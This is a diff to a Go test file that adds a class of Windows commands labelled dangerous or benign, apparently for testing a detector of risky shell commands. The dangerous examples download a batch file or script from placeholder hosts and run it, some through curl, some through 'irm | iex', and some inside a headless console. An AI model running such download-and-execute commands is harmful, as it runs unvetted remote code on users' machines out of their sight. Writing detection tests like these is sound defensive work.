@@ -51,5 +51,20 @@ func init() {
 				ps(`Remove-Item (Join-Path $env:BUILD_ROOT 'obj') -Recurse -Force`),
 			},
 		},
+		winClass{name: "a script downloaded in cmd and run",
+			dangerous: []winLine{
+				cmdl(`curl.exe -s https://x.example.com/c.bat > %TEMP%\c.bat && call %TEMP%\c.bat`),
+				cmdl(`curl -s https://x.example.org/i.cmd > i.cmd && i.cmd`),
+				cmdl(`conhost.exe --headless powershell -c "irm https://x.example.org/h|iex"`),
+				cmdl(`conhost --headless cmd /c "curl -s https://x.example.org/a.bat > a.bat && a.bat"`),
+				ps(`conhost.exe --headless powershell -c "irm https://x.example.org/h|iex"`),
+			},
+			benign: []winLine{
+				cmdl(`curl.exe -s https://x.example.com/c.json > %TEMP%\c.json && type %TEMP%\c.json`),
+				cmdl(`conhost.exe --headless powershell -c "Get-Date"`),
+				ps(`conhost.exe --headless cmd /c "dir /b"`),
+				cmdl(`call build.bat`),
+			},
+		},
 	)
 }
